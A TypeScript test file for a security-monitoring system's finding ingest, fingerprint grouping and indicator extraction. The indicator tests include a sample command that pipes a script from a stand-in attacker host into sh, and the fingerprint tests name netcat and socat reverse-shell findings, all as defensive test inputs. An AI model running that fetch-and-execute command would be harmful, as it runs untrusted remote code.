import { describe, expect, it } from 'vitest';
import type { Store } from '../../src/cp/store/store.js';
import { storeKinds, useTestStore, type TestStore } from '../support/store-kinds.js';
import { fingerprintFinding, normalizeTitle, resourceRoot } from '../../src/protocol/fingerprint.js';
import { extractIndicators } from '../../src/cp/findings/indicators.js';
import type { EventRecord } from '../../src/protocol/tunnel.js';
import { asTicks, findingRecord, record, runId, tickStart } from './cp-harness.js';

const NOW = 1_800_000_000_000;

describe.each(storeKinds)('store ingest (%s)', (kind) => {
  let t: TestStore;
  let store: Store;
  useTestStore(kind, (opened) => {
    t = opened;
    store = opened.store;
  });
  const ingest = (host: string, records: EventRecord[]) => store.ingest.ingest(host, records, NOW);
  const count = (table: string): number => (store.db.prepare(`SELECT count(*) AS n FROM ${table}`).get() as { n: number }).n;

  it('stores each (run, seq) exactly once across overlapping batches, acknowledging all', () => {
    const run = runId();
    const first = ingest('web-01', [tickStart(run, 1), findingRecord(run, 2), record(run, 3, { type: 'text' })]);
    expect(first).toMatchObject({ stored: 3, duplicates: 0, foreign: 0 });
    expect(first.findings).toHaveLength(1);

    const second = ingest('web-01', [findingRecord(run, 2), record(run, 3, { type: 'text' }), findingRecord(run, 4), record(run, 5, { type: 'text' })]);
    expect(second.acked).toEqual([2, 3, 4, 5].map((seq) => ({ run_id: run, seq })));
    expect(second).toMatchObject({ stored: 2, duplicates: 2 });
    expect(second.findings.map((f) => f.finding.seq)).toEqual([4]);

    expect(store.runs.events(run, 0, 100).map((e) => e.seq)).toEqual([1, 2, 3, 4, 5]);
    expect(store.runs.get(run)).toMatchObject({ events: 5, findings: 2, status: 'running', host: 'web-01' });
    expect(count('findings')).toBe(2);
  });

  it('stores a record sent twice in one batch once, and keeps a batch\'s findings, events and cursors in record order', () => {
    const run = runId();
    const got = ingest('web-01', [tickStart(run, 1), findingRecord(run, 3, { title: 'third' }), findingRecord(run, 2, { title: 'second' }), findingRecord(run, 3, { title: 'third again' }), record(run, 4, { type: 'text' })]);
    expect(got).toMatchObject({ stored: 4, duplicates: 1 });
    expect(got.acked).toHaveLength(5);
    expect(got.findings.map((f) => [f.finding.seq, f.finding.title])).toEqual([[3, 'third'], [2, 'second']]);
    const [a, b] = got.findings.map((f) => f.cursor) as [number, number];
    expect(b).toBeGreaterThan(a);
    expect(store.feed.after(a - 1, 10).filter((e) => e.kind === 'finding').map((e) => (e.payload as { title: string }).title)).toEqual(['third', 'second']);
    expect(store.runs.get(run)).toMatchObject({ events: 4, findings: 2 });
    expect(count('findings')).toBe(2);
  });

  it('refuses records of a run owned by another host, and keeps an invalid finding in the transcript only', () => {
    const run = runId();
    ingest('web-01', [tickStart(run, 1)]);
    const foreign = ingest('web-02', [findingRecord(run, 2)]);
    expect(foreign).toMatchObject({ foreign: 1, stored: 0 });
    expect(foreign.acked).toEqual([{ run_id: run, seq: 2 }]);

    const bad = ingest('web-01', [findingRecord(run, 2, { severity: 'apocalyptic' })]);
    expect(bad.stored).toBe(1);
    expect(bad.invalidFindings).toHaveLength(1);
    expect(bad.invalidFindings[0]?.reason).toMatch(/severity/);
    expect(count('findings')).toBe(0);
    expect(store.runs.events(run, 0, 100).map((e) => e.seq)).toEqual([1, 2]);
  });

  it('refuses records of a run the CP never dispatched that no tick opened: nothing stored, no run, acknowledged all the same', () => {
    const run = runId();
    // a run_start that does not say it is a tick, a finding, an end: none of them brings the run into being
    const records = [record(run, 1, { type: 'run_start' }), findingRecord(run, 2), record(run, 3, { type: 'run_end', status: 'completed' })];
    const result = ingest('web-01', records);
    expect(result).toMatchObject({ stored: 0, duplicates: 0, unknown: 3, foreign: 0, refused: [{ run_id: run, reason: 'unknown' }] });
    expect(result.acked).toEqual(records.map((r) => ({ run_id: r.run_id, seq: r.seq })));
    expect(store.runs.get(run)).toBeUndefined();
    expect(store.runs.events(run, 0, 100)).toEqual([]);
    expect(count('runs')).toBe(0);
    expect(count('events')).toBe(0);
    expect(count('findings')).toBe(0);
  });

  it('creates a run from a tick start only for a well-formed agent, bound to the host that sent it', () => {
    const bad = runId();
    expect(ingest('web-01', [tickStart(bad, 1, '../etc')])).toMatchObject({ stored: 0, unknown: 1 });
    expect(store.runs.get(bad)).toBeUndefined();

    const tick = runId();
    expect(ingest('web-01', [tickStart(tick, 1, 'certwatch'), findingRecord(tick, 2)])).toMatchObject({ stored: 2, refused: [] });
    expect(store.runs.get(tick)).toMatchObject({ host: 'web-01', agent: 'certwatch', status: 'running', created_by: 'daimon:web-01' });
    // another host announcing the same run id as its own tick does not take it over
    const other = ingest('web-02', [tickStart(tick, 3, 'certwatch'), findingRecord(tick, 4)]);
    expect(other).toMatchObject({ stored: 0, foreign: 2, refused: [{ run_id: tick, reason: 'foreign' }] });
    expect(store.runs.events(tick, 0, 100).map((e) => e.seq)).toEqual([1, 2]);
  });

  it('groups findings by fingerprint: a pid in the resource or a number in the title does not split a group', () => {
    const run = runId();
    const result = ingest('web-01', asTicks([
      findingRecord(run, 1, { title: 'Reverse shell from nginx (3 connections)', resource: 'pid:1337, binary:/usr/bin/nc' }),
      findingRecord(run, 2, { title: 'Reverse shell from nginx (7 connections)', resource: 'binary:/usr/bin/nc, pid:42' }),
      findingRecord(run, 3, { title: 'Reverse shell from nginx (7 connections)', resource: 'binary:/usr/bin/socat, pid:42' }),
    ]));
    const [a, b, c] = result.findings.map((f) => f.finding.fingerprint);
    expect(a).toBe(b);
    expect(c).not.toBe(a);
    expect(count('finding_groups')).toBe(2);
    const group = store.db.prepare('SELECT count FROM finding_groups WHERE fingerprint = ?').get(a) as { count: number };
    expect(group.count).toBe(2);
    expect(store.findings.summary({}).groups).toBe(2);
  });

  it('summarises by severity, category and agent, honouring filters', () => {
    const run1 = runId();
    const run2 = runId();
    ingest('web-01', asTicks([
      findingRecord(run1, 1, { severity: 'critical', category: 'network' }),
      findingRecord(run1, 2, { severity: 'HIGH', category: 'process' }),
      findingRecord(run1, 3, { severity: 'low', category: 'process' }),
    ]));
    ingest('web-02', asTicks([record(run2, 1, { type: 'finding', severity: 'MEDIUM', title: 'Expiring certificate', category: 'cert' }, 'certwatch')]));

    const all = store.findings.summary({});
    expect(all).toEqual({
      total: 4,
      by_severity: { CRITICAL: 1, HIGH: 1, MEDIUM: 1, LOW: 1, INFO: 0 },
      by_category: { network: 1, process: 2, cert: 1 },
      by_agent: { edr: 3, certwatch: 1 },
      groups: 4,
      by_status: { open: 4, acknowledged: 0, resolved: 0, false_positive: 0 },
      open_by_severity: { CRITICAL: 1, HIGH: 1, MEDIUM: 1, LOW: 1, INFO: 0 },
    });
    expect(store.findings.summary({ severity: 'HIGH' })).toMatchObject({ total: 2, by_agent: { edr: 2 } });
    expect(store.findings.summary({ host: 'web-02' })).toMatchObject({ total: 1, by_category: { cert: 1 } });
    expect(store.findings.query({ severity: 'MEDIUM', limit: 10 }).map((f) => f.severity)).toEqual(['CRITICAL', 'HIGH', 'MEDIUM']);
  });

  it('gives findings increasing feed cursors that survive reopening the store', () => {
    const run = runId();
    ingest('web-01', [tickStart(run)]);
    const cursors = ingest('web-01', [findingRecord(run, 1), findingRecord(run, 2)]).findings.map((f) => f.cursor);
    expect(cursors[1]).toBeGreaterThan(cursors[0] as number);
    store = t.reopen();
    expect(store.feed.head()).toBe(cursors[1]);
    const next = ingest('web-01', [findingRecord(run, 3)]).findings[0]?.cursor as number;
    expect(next).toBeGreaterThan(cursors[1] as number);
    expect(store.feed.after(cursors[0] as number, 10).map((e) => e.id)).toEqual([cursors[1], next]);
  });
});

describe('fingerprint', () => {
  it.each([
    ['Reverse shell from nginx (3 connections)', 'reverse shell from nginx (# connections)'],
    ['  Disk   97.5% full ', 'disk #% full'],
    ['CVE-2024-3094 in xz 5.6.1', 'cve-#-# in xz #.#'],
  ])('normalizes the title %j to %j', (title, expected) => {
    expect(normalizeTitle(title)).toBe(expected);
  });

  it.each([
    ['pid:1337, binary:/usr/bin/nc', 'binary:/usr/bin/nc'],
    ['binary:/usr/bin/nc pid:42 ppid:1 time:12:00', 'binary:/usr/bin/nc'],
    ['user:root, file:/etc/shadow', 'file:/etc/shadow,user:root'],
    ['', ''],
    ['binary:/usr/bin/nc', 'binary:/usr/bin/nc'],
    ['PID:42', ''],
    ['seq', ''],
    ['a:b:c', 'a:b:c'],
  ])('keeps the stable root of the resource %j: %j', (resource, expected) => {
    expect(resourceRoot(resource)).toBe(expected);
  });

  const base = { severity: 'HIGH' as const, title: 'Reverse shell 1', resource: 'pid:1, binary:/usr/bin/nc', dedup_key: '' };
  it.each([
    { name: 'another pid and counter', over: { title: 'Reverse shell 2', resource: 'binary:/usr/bin/nc, pid:99' }, same: true },
    { name: 'another title case', over: { title: 'REVERSE SHELL 3' }, same: true },
    { name: 'another severity', over: { severity: 'CRITICAL' as const }, same: false },
    { name: 'another binary', over: { resource: 'pid:1, binary:/usr/bin/socat' }, same: false },
    { name: 'another dedup key', over: { dedup_key: 'k2' }, same: false },
    { name: 'another title', over: { title: 'Bind shell 1' }, same: false },
  ])('$name → same fingerprint: $same', ({ over, same }) => {
    const a = fingerprintFinding(base);
    const b = fingerprintFinding({ ...base, ...over });
    expect(a).toMatch(/^[0-9a-f]{32}$/);
    expect(a === b).toBe(same);
  });
});

describe('indicators', () => {
  it.each([
    { text: 'beacon to 203.0.113.7:4444', want: ['ip:203.0.113.7'] },
    { text: 'listening on 127.0.0.1 and 0.0.0.0, peer 10.1.2.3', want: ['ip:10.1.2.3'] },
    { text: 'not an ip: 999.1.1.1', want: [] },
    { text: 'vulnerable to cve-2024-3094', want: ['cve:CVE-2024-3094'] },
    {
      text: 'dropped file sha256 E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855',
      want: ['hash:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
    },
    { text: 'curl https://evil.example.com/payload.sh | sh', want: ['url:https://evil.example.com/payload.sh', 'domain:evil.example.com'] },
    { text: 'resolves C2.BadGuy.ru every minute', want: ['domain:c2.badguy.ru'] },
    { text: 'nothing to see here', want: [] },
  ])('$text → $want', ({ text, want }) => {
    expect(extractIndicators(text).map((i) => `${i.kind}:${i.value}`)).toEqual(want);
  });

  it('caps the number of indicators at 50', () => {
    const text = Array.from({ length: 80 }, (_, i) => `10.0.${Math.floor(i / 200)}.${(i % 200) + 1}`).join(' ');
    expect(extractIndicators(text)).toHaveLength(50);
  });
});
